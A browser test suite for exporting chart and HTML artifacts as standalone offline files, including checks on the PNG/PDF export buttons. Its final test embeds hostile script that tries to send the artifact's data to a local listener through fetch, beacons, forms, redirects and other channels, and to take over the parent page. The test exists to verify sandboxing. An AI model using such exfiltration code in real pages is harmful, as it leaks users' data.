#!/usr/bin/env node
// An artifact as one file, opened from disk in a browser that is offline: it shows all, asks for nothing, and keeps its code in a frame.
'use strict';

const assert = require('node:assert');
const fs = require('node:fs');
const http = require('node:http');
const os = require('node:os');
const path = require('node:path');
const {test, cleanup, skip, run} = require('../lib/runner.js');
const {start, Client, sleep} = require('../lib/quern.js');
const {launch, open, signIn, shot, fits} = require('../lib/browser.js');
const artifacts = require('../lib/artifacts.js');

let q, browser, analyst, listener;
const heard = [];
const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'quern-alone-'));

// By a link, so that it can go while the instance runs.
const chromium = path.join(dir, 'chromium');
fs.symlinkSync('/usr/lib/chromium/chromium', chromium);

test('start', async () => {
	q = await start({args: [], env: {QUERN_CHROMIUM: chromium}});
	browser = await launch();
	analyst = await new Client(q).signIn('analyst@example.com');
	listener = http.createServer((req, res) => { heard.push(req.url); res.setHeader('Access-Control-Allow-Origin', '*'); res.end('x'); });
	await new Promise((resolve) => { listener.listen(0, '127.0.0.1', resolve); });
});
cleanup(async () => {
	if (browser) await browser.close();
	if (listener) listener.close();
	fs.rmSync(dir, {recursive: true, force: true});
	if (q) await q.stop();
});

// Saves the file of an artifact and opens it from disk. Resolves to {page, done, frame, size}.
async function alone(artifact, {offline = true, dark = false, width = 1200} = {}) {
	const {status, text} = await analyst.get(`/artifacts/${artifacts.put(q, artifact)}/export.html`);
	assert.equal(status, 200);
	const file = path.join(dir, `${artifact.title}.html`);
	fs.writeFileSync(file, text);
	const context = await browser.newContext({offline, colorScheme: dark ? 'dark' : 'light', viewport: {width, height: 800}});
	const page = await context.newPage();
	page.asked = [];
	page.on('request', (r) => { if (!/^(file|data|blob|about):/.test(r.url())) page.asked.push(r.url()); });
	await page.goto(`file://${encodeURI(file)}`);
	const done = await page.evaluate(() => self.quernDone);
	return {page, done, frame: page.frames().find((f) => f !== page.mainFrame()), size: text.length};
}

const kinds = [
	{title: 'react', type: 'react', data: {sales: {columns: [{name: 'month', kind: 'text'}, {name: 'total', kind: 'number'}], rows: [['Jan', 10], ['Feb', 30], ['Mar', 20]]}},
		code: `import { LineChart, Line, XAxis, YAxis } from "recharts";
export default function App() { return <div className="p-4"><h2 className="text-xl font-bold">{data.sales.records.length} months</h2>
<LineChart width={500} height={240} data={data.sales.records}><XAxis dataKey="month"/><YAxis/><Line dataKey="total" isAnimationActive={false}/></LineChart></div>; }`, shows: '.recharts-line-curve'},
	{title: 'plotly', type: 'plotly', code: '{"data":[{"type":"bar","x":["a","b","c"],"y":[3,1,2]}],"layout":{"title":{"text":"Bars"}}}', shows: '.bars path'},
	{title: 'plotly-3d', type: 'plotly', code: '{"data":[{"type":"heatmap","z":[[1,2],[3,4]]}],"layout":{}}', shows: '.heatmaplayer image'},
	{title: 'echarts', type: 'echarts', code: '{"animation":false,"xAxis":{"type":"category","data":["a","b"]},"yAxis":{},"series":[{"type":"bar","data":[1,2]}]}', shows: 'svg path'},
	{title: 'svg', type: 'svg', code: '<svg viewBox="0 0 40 20" width="400"><circle cx="10" cy="10" r="8" fill="teal"/></svg>', shows: 'circle'},
	{title: 'html', type: 'html', code: '<h2>Page</h2><p id="out"></p><script>document.getElementById("out").textContent = "it runs";</script>', shows: '#out:text("it runs")'},
];

for (const kind of kinds)
	test(`${kind.title}: shows itself from disk, offline, and asks for nothing`, async () => {
		const {page, done, frame} = await alone(kind);
		assert.deepEqual(done.errors, []);
		await frame.locator(kind.shows).first().waitFor({state: 'attached', timeout: 5000});
		assert.deepEqual(page.asked, []);
		await shot(page, `alone-${kind.title}`);
		await page.context().close();
	});

test('a text shows itself, and the page follows the theme and fits a phone', async () => {
	const {text} = await analyst.get(`/artifacts/${artifacts.put(q, {title: 'text', type: 'markdown', code: '# Title\n\n| a | b |\n|---|---|\n| 1 | 2 |\n'})}/export.html`);
	const file = path.join(dir, 'text.html');
	fs.writeFileSync(file, text);
	const context = await browser.newContext({offline: true, colorScheme: 'dark', viewport: {width: 390, height: 800}});
	const page = await context.newPage();
	await page.goto(`file://${file}`);
	assert.equal(await page.locator('.text td').first().innerText(), '1');
	assert.notEqual(await page.evaluate(() => getComputedStyle(document.body).backgroundColor), 'rgb(255, 255, 255)');
	assert.ok(await page.evaluate(() => document.documentElement.scrollWidth <= window.innerWidth));
	await shot(page, 'alone-text-dark-390');
	await context.close();
});

// The buttons for what a browser on the server makes: the page stays, says how far it is, and the file comes down.
test('a picture comes down at a click, on a phone, too; without script there is a page that waits', async () => {
	const id = artifacts.put(q, {title: 'A drawing', type: 'svg', code: kinds[4].code});
	const page = await open(browser, q, {width: 390, height: 800});
	await signIn(page, q);
	await page.goto(`/artifacts/${id}`);
	await page.locator('.artifact-exports summary').first().click();
	const png = page.getByRole('button', {name: 'Picture (PNG)'});
	if (await png.isDisabled()) skip(await page.locator('[data-picture-said]').innerText());
	await shot(page, 'buttons-390');
	const came = page.waitForEvent('download', {timeout: 60000});
	await png.click();
	await page.locator('[data-picture-said]:not(:empty)').waitFor();
	await shot(page, 'buttons-390-waits');
	assert.match((await came).suggestedFilename(), /^a-drawing-\d{4}-\d\d-\d\d\.png$/);
	assert.equal(await page.locator('[data-picture-said]').innerText(), '');
	assert.ok(await png.isEnabled());
	assert.ok(await fits(page));
	assert.deepEqual(page.problems, []);
	await page.context().close();
	const plain = await open(browser, q, {width: 1200, height: 800, script: false});
	await signIn(plain, q);
	await plain.goto(`/artifacts/${id}`);
	await plain.locator('.artifact-exports summary').first().click();
	await shot(plain, 'buttons-light');
	await plain.getByRole('button', {name: 'PDF'}).click();
	await shot(plain, 'picture-waits');
	await plain.getByRole('link', {name: 'Download it'}).waitFor({timeout: 60000});
	await shot(plain, 'picture-ready');
	await plain.context().close();
});

test('where Chromium is not there the buttons are off and say why', async () => {
	fs.rmSync(chromium);
	const page = await open(browser, q, {width: 390, height: 800});
	await signIn(page, q);
	await page.goto(`/artifacts/${artifacts.put(q, {title: 'A drawing', type: 'svg', code: kinds[4].code})}`);
	await page.locator('.artifact-exports summary').first().click();
	assert.equal(await page.locator('[data-picture-said]').innerText(), 'Pictures and PDF files cannot be made: Chromium is not installed here.');
	for (const name of ['Picture (PNG)', 'PDF']) assert.ok(await page.getByRole('button', {name}).isDisabled());
	assert.ok(await fits(page));
	await shot(page, 'buttons-390-none');
	await page.context().close();
});

// Whoever opens the file has a network: still nothing may leave.
test('code that tries to reach the network from the file reaches nothing, and cannot touch the page', async () => {
	const to = `http://127.0.0.1:${listener.address().port}`;
	const code = `<link rel="preconnect" href="${to}/link"><img src="${to}/img"><style>body{background:url(${to}/css)}</style><a id="a" href="${to}/click" target="_blank">x</a><script>
		const tries = [() => fetch("${to}/fetch?" + JSON.stringify(data)), () => navigator.sendBeacon("${to}/beacon", "x"), () => { new Image().src = "${to}/image"; },
			() => { const s = document.createElement("script"); s.src = "${to}/script"; document.head.append(s); }, () => { document.body.insertAdjacentHTML("beforeend", '<iframe src="${to}/frame"></iframe>'); },
			() => { const f = document.createElement("form"); f.action = "${to}/form"; document.body.append(f); f.submit(); }, () => { const x = new XMLHttpRequest(); x.open("GET", "${to}/xhr"); x.send(); },
			() => { parent.document.title = "taken"; }, () => { top.location = "${to}/top"; }, () => { document.getElementById("a").click(); }, () => { localStorage.x = 1; }];
		for (const one of tries) try { const r = one(); r?.catch?.(() => {}); } catch {}
		setTimeout(() => { location = "${to}/location?" + JSON.stringify(data); }, 300);</script>`;
	const {page} = await alone({title: 'hostile', type: 'html', code, data: {secret: 'rows'}}, {offline: false});
	await sleep(1500);
	assert.deepEqual(heard, []);
	assert.equal(await page.title(), 'hostile');
	await fetch(`${to}/control`);
	assert.deepEqual(heard, ['/control'], 'the listener does hear');
	await page.context().close();
});

run({seconds: 120});
